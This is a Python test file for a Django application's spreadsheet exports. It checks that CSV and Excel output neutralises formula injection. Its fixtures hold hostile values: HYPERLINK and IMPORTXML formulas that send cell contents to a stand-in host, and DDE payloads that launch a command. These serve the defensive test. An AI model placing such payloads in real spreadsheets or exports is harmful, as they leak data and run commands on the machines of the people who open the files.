"""Every spreadsheet export is formula-safe (CSV and Excel formula injection, OWASP).

The exports are found, not listed: every URL of the project that takes no arguments is opened
plain and with ``?_export=csv`` / ``?_export=xlsx``, and whatever answers as CSV or Excel is
checked, with names, klantnummers and project names that a spreadsheet would evaluate. A new
export is covered without touching this file; the source check below makes sure no module
writes CSV or Excel around ``waw/exports.py``.
"""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLResolver, get_resolver
from openpyxl import load_workbook

from billing.models import Invoice
from billing.services import credit_invoice, issue_run
from tests.factories import (
    AgreementFactory,
    ParticipantFactory,
    ProjectFactory,
    TariffOptionFactory,
    TrajectoryFactory,
)
from waw.exports import SafeExportMixin, csv_writer, xlsx_bytes
from waw.periods import Period

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://x.example/?leak="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_CLIENT_NUMBERS = ["=1+2", "+3+4", "-5+6", "@A1"]
HOSTILE_PROJECT = '=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
CSV_TYPES = ("text/csv", "text/tsv", "text/tab-separated-values")
XLSX_TYPES = ("application/vnd.openxmlformats", "application/vnd.ms-excel", "application/vnd.oasis")
KNOWN_EXPORTS = {
    "/trajecten/?_export=csv",
    "/trajecten/?_export=xlsx",
    "/projecten/?_export=csv",
    "/projecten/?_export=xlsx",
    "/facturen/regels.csv",
}


@pytest.fixture
def hostile_world(huizen, coordinator):
    project = ProjectFactory(
        name=HOSTILE_PROJECT, slug="vijandig", provider="@Uitvoerder", project_type="-type"
    )
    TariffOptionFactory(
        agreement=AgreementFactory(project=project, year=2025),
        price_per_participant=Decimal("4000.00"),
    )
    for index, first_name in enumerate(HOSTILE_NAMES):
        participant = ParticipantFactory(
            first_name=first_name,
            last_name="=Achternaam",
            # Names that differ only in punctuation are one person to the duplicate rule.
            date_of_birth=dt.date(1990, 5, 17) + dt.timedelta(days=index),
            municipality=huizen,
            client_number=HOSTILE_CLIENT_NUMBERS[index % len(HOSTILE_CLIENT_NUMBERS)] + str(index),
        )
        TrajectoryFactory(
            participant=participant,
            project=project,
            enrolment_date=dt.date(2025, 1, 6),
            start_date=dt.date(2025, 2, 3),
        )
    issue_run(period=Period.parse("2025-Q1"), user=coordinator, today=dt.date(2025, 4, 15))
    invoice = Invoice.objects.get()
    credit_invoice(
        invoice=invoice,
        line_ids=[invoice.lines.first().pk],
        rebill_ids=[],
        reason="=verkeerd",
        user=coordinator,
        today=dt.date(2025, 4, 20),
    )


def argument_free_urls(resolver=None, prefix=""):
    """Every URL of the project that takes no arguments, outside the Django admin."""
    for pattern in (resolver or get_resolver()).url_patterns:
        route = str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            if pattern.namespace != "admin":
                yield from argument_free_urls(pattern, prefix + route)
        elif "<" not in route and "(" not in route:
            yield "/" + prefix + route.lstrip("^").rstrip("$")


def view_classes(resolver=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace != "admin":
                yield from view_classes(pattern)
        elif hasattr(pattern.callback, "view_class"):
            yield pattern.callback.view_class


def spreadsheet_exports(client):
    """(url, kind, response) for every URL that answers with a CSV or Excel file."""
    found = []
    for url in sorted(set(argument_free_urls())):
        for query in ("", "?_export=csv", "?_export=xlsx"):
            response = client.get(url + query)
            content_type = response.get("Content-Type", "")
            if response.status_code != 200:
                continue
            if content_type.startswith(CSV_TYPES):
                found.append((url + query, "csv", response))
            elif content_type.startswith(XLSX_TYPES):
                found.append((url + query, "xlsx", response))
    return found


def csv_cells(response):
    text = response.content.decode("utf-8-sig")
    first_line = text.split("\n", 1)[0]
    delimiter = ";" if first_line.count(";") > first_line.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def formula_like(text):
    return text.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(text)


def test_every_export_neutralises_every_formula_like_text(client_for, coordinator, hostile_world):
    exports = spreadsheet_exports(client_for(coordinator))

    assert {url for url, _kind, _response in exports} >= KNOWN_EXPORTS
    csv_texts, xlsx_texts = set(), set()
    for url, kind, response in exports:
        if kind == "csv":
            cells = csv_cells(response)
            assert [c for c in cells if formula_like(c)] == [], url
            csv_texts.update(cells)
        else:
            workbook = load_workbook(io.BytesIO(response.content))
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                        if isinstance(cell.value, str) and formula_like(cell.value):
                            assert cell.quotePrefix, (url, cell.coordinate, cell.value)
                        xlsx_texts.add(cell.value)
    # What a person reads is the name itself: after the quote in CSV, unchanged in Excel.
    assert "'" + HOSTILE_PROJECT in csv_texts
    assert HOSTILE_PROJECT in xlsx_texts
    assert any(text.startswith("'" + HOSTILE_NAMES[0]) for text in csv_texts)
    assert any(str(text).startswith(HOSTILE_NAMES[0]) for text in xlsx_texts)
    assert "'=1+20" in csv_texts  # a klantnummer on an invoice line


def test_a_credit_notes_negative_amount_stays_a_number_in_the_invoice_lines(
    client_for, coordinator, hostile_world
):
    response = client_for(coordinator).get("/facturen/regels.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert sorted(row[-1] for row in rows[1:])[0] == "-4000,00"


def test_every_table_export_goes_through_the_safe_mixin():
    from django_tables2.export import ExportMixin

    unsafe = [
        view.__name__
        for view in view_classes()
        if issubclass(view, ExportMixin) and not issubclass(view, SafeExportMixin)
    ]

    assert unsafe == []


@pytest.mark.parametrize("export_format", ["tsv", "json", "ods", "xls", "yaml", "latex"])
def test_other_export_formats_are_not_offered(client_for, coordinator, export_format):
    response = client_for(coordinator).get(f"/trajecten/?_export={export_format}")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_no_module_writes_csv_or_excel_around_the_export_helpers():
    writers = re.compile(
        r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|tablib|django_tables2\.export"
    )
    offenders = []
    for app in ("audit", "billing", "monitor", "participants", "projects", "waw"):
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            if path.name == "exports.py" and path.parent.name == "waw":
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(settings.BASE_DIR)))

    assert offenders == []


def test_csv_fields_are_quoted_so_another_separator_cannot_split_off_a_formula():
    stream = io.StringIO()

    csv_writer(stream).writerow(["Jansen;=1+1", 'zeg "hoi"', Decimal("-12.50")])

    assert stream.getvalue() == '"Jansen;=1+1","zeg ""hoi""","-12.50"\r\n'


def test_excel_cells_keep_numbers_and_dates_and_drop_invisible_control_characters():
    data = xlsx_bytes(
        title="t",
        header=["a", "b", "c", "d"],
        rows=[[Decimal("-12.50"), dt.date(2025, 1, 2), "=1+1\x07", "-3000,00"]],
    )

    sheet = load_workbook(io.BytesIO(data)).active
    amount, day, text, number_text = sheet[2]
    assert (amount.data_type, amount.value) == ("n", -12.5)
    assert day.is_date
    assert (text.data_type, text.value, text.quotePrefix) == ("s", "=1+1", True)
    assert number_text.quotePrefix is False
